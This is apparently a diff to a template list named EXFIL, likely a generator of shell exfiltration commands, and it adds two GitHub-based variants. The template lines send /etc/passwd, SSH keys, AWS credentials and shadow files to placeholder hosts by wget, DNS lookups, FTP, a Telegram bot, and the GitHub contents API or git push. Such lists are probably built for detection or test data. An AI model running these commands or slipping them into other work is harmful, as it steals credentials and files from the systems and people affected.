@@ -94,4 +94,6 @@ EXFIL = [
     'wget --post-data="‹msg¦d¦data›=$(‹cat /etc/passwd | base64 -w0¦hostname; id¦uname -a | xxd -p›)" ‹--no-check-certificate ¦›‹{url}¦https://{domain}/› -qO- ',
     'for {var} in $(cat {file} | xxd -p -c ‹16¦30›); do ‹dig +short¦nslookup¦host› ${var}.{domain} ‹@{ip} ¦>/dev/null ¦›; done',
     'tar -C ‹/root¦/home¦/etc› -czf {tmp}/{name}.tgz ‹.ssh¦.aws¦shadow passwd¦.›; curl -s ‹--ftp-create-dirs -T {tmp}/{name}.tgz ftp://{ip}/{plain}/¦-T {tmp}/{name}.tgz {url}¦-F f=@{tmp}/{name}.tgz https://api.telegram.org/bot$T/sendDocument -F chat_id={port}›; rm -f {tmp}/{name}.tgz',
+    'u={user}; pat=‹ghp_{plain}¦$T›; c=$(base64 ‹-w0 ¦›{file}); curl -s -X PUT -H "Authorization: ‹token¦Bearer› $pat" -d "{\\"message\\":\\"‹add¦up¦{plain}›\\",\\"content\\":\\"$c\\"}" https://api.github.com/repos/$u/{plain}/contents/{name}',
+    'U={user}; R={plain}; T=$‹PAT¦TOKEN›; git clone -q https://$T@github.com/$U/$R {tmp}/$R; cp {file} {tmp}/$R/; cd {tmp}/$R; git add .; git commit -qm ‹x¦update›; git push -q; rm -rf {tmp}/$R',
 ]
